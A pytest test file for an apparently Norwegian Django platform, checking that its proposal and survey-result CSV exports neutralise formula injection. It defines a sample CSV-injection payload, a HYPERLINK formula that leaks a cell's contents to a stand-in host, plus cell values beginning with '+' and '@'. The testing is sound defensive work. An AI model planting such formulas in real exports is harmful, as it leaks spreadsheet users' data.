"""Every CSV the app writes from user data, with formula-like names and titles in it: no
cell may start with a character that makes a spreadsheet run it."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from trepart.analysis.tests.results_world import build_results_world, respond_many
from trepart.platform.csv_writer import FORMULA_STARTS
from trepart.proposals import services
from trepart.proposals.tests.api_world import make_world

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1;"Klikk her")'


def cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def assert_no_formula(found: list[str], expected: str) -> None:
    assert "'" + expected in found
    dangerous = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_proposals_export_neutralises_formulas() -> None:
    world = make_world()
    world.lmu.name = "+LMU"
    world.lmu.save()
    services.proposal_submit(
        actor=world.proposer,
        municipality=world.municipality,
        title=FORMULA,
        description="Et forslag med en tittel som ser ut som en formel.",
        unit_ids=[world.school.pk],
    )
    response: Any = client_for(world.chair).get(reverse("proposals:export"))
    found = cells(b"".join(response.streaming_content))
    assert_no_formula(found, FORMULA)
    assert_no_formula(found, "+LMU")


def test_the_survey_results_csv_neutralises_formulas() -> None:
    world = build_results_world(builtin_key="status-i-egen-kommune")
    world.school_a.name = "@skolen"
    world.school_a.save()
    respond_many(world.survey, 6, values=[4, 4, 5], unit=world.school_a, party="POLITICAL")
    response = client_for(world.reader).get(
        f"/analyse/undersokelser/{world.survey.pk}/resultater/eksport.csv?by=unit"
    )
    assert response.status_code == 200
    assert_no_formula(cells(response.content), "@skolen")
